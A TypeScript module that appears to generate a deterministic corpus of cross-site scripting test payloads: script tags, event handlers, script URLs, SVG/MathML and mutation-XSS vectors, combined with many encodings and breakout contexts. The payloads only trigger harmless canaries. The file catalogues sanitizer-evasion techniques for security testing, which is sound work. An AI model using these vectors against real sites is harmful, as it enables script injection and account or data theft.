/**
 * The XSS corpus (issue 24): payloads generated from vector templates (script tags, event
 * handlers on many tags, script URLs in every attribute that takes one, SVG and MathML, mutation
 * XSS), crossed with encodings (mixed case, entities, URL-encoding, null bytes, odd whitespace)
 * and with the context they are written into (text, breaking out of an attribute value or of an
 * element whose text is raw). Each payload, if it ran, would tell: it calls `alert`, `confirm` or
 * `prompt`, requests `/canary-xss?{n}` or sets the page's title to `xss-{n}`, where n is its
 * number. Deterministic: the same list on every run.
 */

/** How a payload says it ran, without a space (so that it also fits an unquoted attribute). */
const ACTIONS: ((n: number) => string)[] = [
  (n) => `alert(${n})`,
  (n) => `confirm(${n})`,
  (n) => `prompt(${n})`,
  (n) => `fetch('/canary-xss?${n}')`,
  (n) => `document.title='xss-${n}'`,
  (n) => `(new(Image)).src='/canary-xss?${n}'`,
  (n) => `top['al'+'ert'](${n})`,
  (n) => `self[atob('YWxlcnQ=')](${n})`,
];

type Vector = (js: string) => string;

const SCRIPT_TAGS: Vector[] = [
  (js) => `<script>${js}</script>`,
  (js) => `<script type="text/javascript">${js}</script>`,
  (js) => `<script/x>${js}</script>`,
  (js) => `<script\n>${js}</script\n>`,
  (js) => `<script src="data:text/javascript,${encodeURIComponent(js)}"></script>`,
  (js) => `<script>/*</script><script>*/${js}</script>`,
  (js) => `<<script>${js}//<</script>`,
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<svg><script href="data:,${js}"/></svg>`,
  (js) => `<svg><script xlink:href="data:,${js}"></script></svg>`,
  (js) => `<math><script>${js}</script></math>`,
  (js) => `<iframe srcdoc="<script>${js}</script>"></iframe>`,
  (js) => `<iframe srcdoc="&lt;img src=x onerror=${js}&gt;"></iframe>`,
  (js) => `<object data="data:text/html,<script>${js}</script>"></object>`,
  (js) => `<embed src="data:text/html,<script>${js}</script>">`,
  (js) => `<meta http-equiv="refresh" content="0;url=javascript:${js}">`,
  (js) => `<base href="javascript:${js}//"><a href="x">x</a>`,
];

/** Short forms, for the narrow fields (names, cities, tags). */
const SHORT: Vector[] = [
  (js) => `<svg/onload=${js}>`,
  (js) => `<svg onload=${js}>`,
  (js) => `<img src=x onerror=${js}>`,
  (js) => `<body onload=${js}>`,
  (js) => `<x onclick=${js}>x`,
  (js) => `"><svg onload=${js}>`,
  (js) => `'><img src onerror=${js}>`,
  (js) => `<a href=javascript:${js}>x`,
  (js) => `javascript:${js}`,
  (js) => `<iframe src=javascript:${js}>`,
  (js) => `<svg><script>${js}`,
  (js) => `<style onload=${js}>`,
  (js) => `<details open ontoggle=${js}>`,
];

/** Tags with what makes their event fire by itself, where something does. */
const HANDLER_TAGS = [
  'img src=x',
  'img src=/nope.png',
  'svg',
  'body',
  'iframe',
  'input autofocus',
  'select autofocus',
  'textarea autofocus',
  'button autofocus',
  'details open',
  'video src=x',
  'audio src=x',
  'video><source src=x',
  'marquee',
  'object data=x',
  'embed src=x',
  'style',
  'link rel=stylesheet href=x',
  'a href=#',
  'p',
  'span',
  'div',
  'h2',
  'blockquote',
  'li',
  'table background=x',
  'td',
  'figure',
  'x contenteditable',
  'svg><animate attributeName=x dur=1s',
  'svg><set attributeName=x to=1',
  'svg><image href=x',
  'math',
  'image src=x',
  'frameset',
  'form><button',
  'keygen autofocus',
];

const EVENTS = [
  'onerror',
  'onload',
  'onfocus',
  'onfocusin',
  'onmouseover',
  'onpointerover',
  'onclick',
  'ontoggle',
  'onbegin',
  'onanimationstart',
  'onpageshow',
  'onstart',
  'onbeforetoggle',
  'ONERROR',
  'OnLoad',
];

/** How the handler's value is written: quoted, single-quoted, bare, and odd separators. */
const HANDLER_FORMS: ((tag: string, event: string, js: string) => string)[] = [
  (tag, event, js) => `<${tag} ${event}="${js}">x`,
  (tag, event, js) => `<${tag} ${event}='${js}'>x`,
  (tag, event, js) => `<${tag} ${event}=${js}>x`,
  (tag, event, js) => `<${tag.replaceAll(' ', '/')}/${event}=${js}>x`,
  (tag, event, js) => `<${tag}\n${event}\t=\t"${js}">x`,
  (tag, event, js) => `<${tag} ${event}="&#x${hex(js)};">x`,
];

const hex = (text: string) =>
  [...text].map((char) => char.codePointAt(0)!.toString(16)).join(';&#x');

/** The attributes that take a URL, on the tags that read them. */
const URL_SINKS: ((url: string) => string)[] = [
  (url) => `<a href="${url}">link</a>`,
  (url) => `<a href='${url}'>link</a>`,
  (url) => `<a href=${url}>link</a>`,
  (url) => `<a href="${url}" target="_blank">link</a>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<img src="${url}">`,
  (url) => `<img srcset="${url}">`,
  (url) => `<form action="${url}"><button>send</button></form>`,
  (url) => `<button formaction="${url}">send</button>`,
  (url) => `<input type="image" formaction="${url}">`,
  (url) => `<svg><a xlink:href="${url}"><text y="20">link</text></a></svg>`,
  (url) => `<svg><a href="${url}"><text y="20">link</text></a></svg>`,
  (url) => `<svg><use href="${url}"/></svg>`,
  (url) => `<math><maction actiontype="statusline" xlink:href="${url}">link</maction></math>`,
  (url) => `<math href="${url}">link</math>`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<embed src="${url}">`,
  (url) => `<video poster="${url}"></video>`,
  (url) => `<blockquote cite="${url}">q</blockquote>`,
  (url) => `<area href="${url}">`,
  (url) => `<link rel="import" href="${url}">`,
];

/** Script URLs, plainly and in the forms browsers still read as one. */
const SCRIPT_URLS: ((js: string) => string)[] = [
  (js) => `javascript:${js}`,
  (js) => `JaVaScRiPt:${js}`,
  (js) => ` javascript:${js}`,
  (js) => `\tjavascript:${js}`,
  (js) => `java\tscript:${js}`,
  (js) => `java\nscript:${js}`,
  (js) => `java\rscript:${js}`,
  (js) => `java&#x09;script:${js}`,
  (js) => `java&#10;script:${js}`,
  (js) => `&#106;avascript:${js}`,
  (js) => `&#x6A;&#x61;vascript:${js}`,
  (js) => `&#0000106avascript:${js}`,
  (js) => `javascript&colon;${js}`,
  (js) => `javascript&#58;${js}`,
  (js) => `javascript%3A${js}`,
  (js) => `%6A%61vascript:${js}`,
  (js) => `\u0000javascript:${js}`,
  (js) => `jav&#0;ascript:${js}`,
  (js) => `\u0001javascript:${js}`,
  (js) => `vbscript:${js}`,
  (js) => `VBScript:${js}`,
  (js) => `data:text/html,<script>${js}</script>`,
  (js) => `data:text/html;base64,${btoa(`<script>${js}</script>`)}`,
  (js) => `data:image/svg+xml,<svg onload=${js}>`,
  (js) => `data:application/javascript,${js}`,
  (js) => `https://example.com/"onmouseover="${js}`,
  (js) => `/x" onfocus="${js}" autofocus="`,
];

/** Mutation XSS: markup that a parser, a sanitizer or a second parse read differently. */
const MUTATIONS: Vector[] = [
  (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>"></noscript>`,
  (js) => `<noscript><style></noscript><img src=x onerror=${js}>`,
  (js) => `<style><img src=x onerror=${js}></style>`,
  (js) => `<style></style><img src=x onerror=${js}>`,
  (js) => `<template><img src=x onerror=${js}></template>`,
  (js) => `<template><script>${js}</script></template>`,
  (js) => `<title><img src=x onerror=${js}></title>`,
  (js) => `<title></title><img src=x onerror=${js}>`,
  (js) => `<textarea><img src=x onerror=${js}></textarea>`,
  (js) => `<xmp><img src=x onerror=${js}></xmp>`,
  (js) => `<iframe><img src=x onerror=${js}></iframe>`,
  (js) => `<noembed><img src=x onerror=${js}></noembed>`,
  (js) => `<noframes><img src=x onerror=${js}></noframes>`,
  (js) => `<plaintext><img src=x onerror=${js}>`,
  (js) => `<svg><style><img src=x onerror=${js}></style></svg>`,
  (js) => `<svg></p><style><a id="</style><img src=1 onerror=${js}>">`,
  (js) => `<math><mtext><table><mglyph><style><img src=x onerror=${js}>`,
  (js) =>
    `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=${js}>"></style></h1>`,
  (js) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${js}>`,
  (js) => `<svg><foreignObject><img src=x onerror=${js}></foreignObject></svg>`,
  (js) =>
    `<math><annotation-xml encoding="text/html"><img src=x onerror=${js}></annotation-xml></math>`,
  (js) => `<svg><desc><img src=x onerror=${js}></desc></svg>`,
  (js) => `<select><template><style><img src=x onerror=${js}></style></template></select>`,
  (js) => `<table><td><style><img src=x onerror=${js}>`,
  (js) => `<!--><img src=x onerror=${js}>-->`,
  (js) => `<!-- --!><img src=x onerror=${js}>-->`,
  (js) => `<![CDATA[><img src=x onerror=${js}>]]>`,
  (js) => `<?xml ?><img src=x onerror=${js}>`,
  (js) => `<a title="--&gt;&lt;img src=x onerror=${js}&gt;">x</a>`,
  (js) => `<p title="&lt;/p&gt;&lt;img src=x onerror=${js}&gt;">x</p>`,
  (js) => `<img src="x` + '`' + `<script>${js}</script>` + '`' + `">`,
  (js) => `<div id="x"><svg><p><style><img src=x onerror=${js}>`,
  (js) => `<a href="https://example.com/</a><img src=x onerror=${js}>">x</a>`,
  (js) => `<img alt="<x" title="/><img src=x onerror=${js}>">`,
  (js) => `<svg><![CDATA[><image xlink:href="]]><img src=x onerror=${js}>"></svg>`,
  (js) =>
    `<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" onload="${js}"></iframe>`,
  (js) =>
    `<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"onload="${js}"></iframe>`,
  (js) => `<img src="/a.png" title="&quot; onerror=&quot;${js}">`,
];

/** Encodings of a whole payload. The plain form comes most often: it is the one that matters most. */
const ENCODINGS: ((html: string) => string)[] = [
  (html) => html,
  (html) => html,
  (html) => html,
  // Mixed case tag and attribute names.
  (html) =>
    html.replace(
      /<(\/?)([a-z][a-z-]*)/g,
      (_, slash: string, name: string) =>
        `<${slash}${[...name].map((c, i) => (i % 2 ? c.toUpperCase() : c)).join('')}`,
    ),
  // Escaped once: harmless unless something decodes it and writes it as HTML.
  (html) => html.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (html) => html.replaceAll('<', '&#60;').replaceAll('>', '&#62;'),
  (html) => html.replaceAll('<', '&#x3C;').replaceAll('"', '&#x22;'),
  (html) => encodeURIComponent(html),
  (html) => html.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  (html) => html.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  // A null character after each `<`, as an entity (a raw one is refused with the whole request).
  (html) => html.replaceAll('<', '<&#0;'),
  // Newlines and tabs between attributes.
  (html) => html.replaceAll(' ', '\n\t'),
  (html) => html.replaceAll(' ', '/'),
  // Full-width angle brackets, which some normalizers fold into `<` and `>`.
  (html) => html.replaceAll('<', '\uFF1C').replaceAll('>', '\uFF1E'),
];

/** What comes before a payload: plain text, or breaking out of an attribute or raw-text element. */
const CONTEXTS = [
  '',
  '',
  '">',
  "'>",
  '"/>',
  '</p>',
  '-->',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</noscript>',
  ']]>',
  '`',
];

export type Payload = { n: number; text: string };

/** Every base vector, each a function of the action that tells. */
function vectors(): Vector[] {
  const list: Vector[] = [...SHORT, ...SCRIPT_TAGS, ...MUTATIONS, ...SHORT];
  for (const tag of HANDLER_TAGS) {
    for (const event of EVENTS) {
      const form = HANDLER_FORMS[(tag.length + event.length) % HANDLER_FORMS.length]!;
      list.push((js) => form(tag, event, js));
    }
  }
  for (const sink of URL_SINKS) {
    for (const url of SCRIPT_URLS) list.push((js) => sink(url(js)));
  }
  return list;
}

/**
 * `count` payloads: each base vector in turn, with an action, an encoding and a context that
 * rotate at different strides so that the pairs vary.
 */
export function xssCorpus(count = 3000): Payload[] {
  const base = vectors();
  const payloads: Payload[] = [];
  for (let i = 0; i < count; i += 1) {
    const n = 1000 + i;
    const round = Math.floor(i / base.length);
    const vector = base[i % base.length]!;
    const action = ACTIONS[(i + round) % ACTIONS.length]!;
    const encoding = ENCODINGS[(i * 7 + round * 3) % ENCODINGS.length]!;
    const context = CONTEXTS[(i * 5 + round) % CONTEXTS.length]!;
    payloads.push({ n, text: context + encoding(vector(action(n))) });
  }
  return payloads;
}

/** The number of base vectors the corpus cycles through. */
export const vectorCount = () => vectors().length;
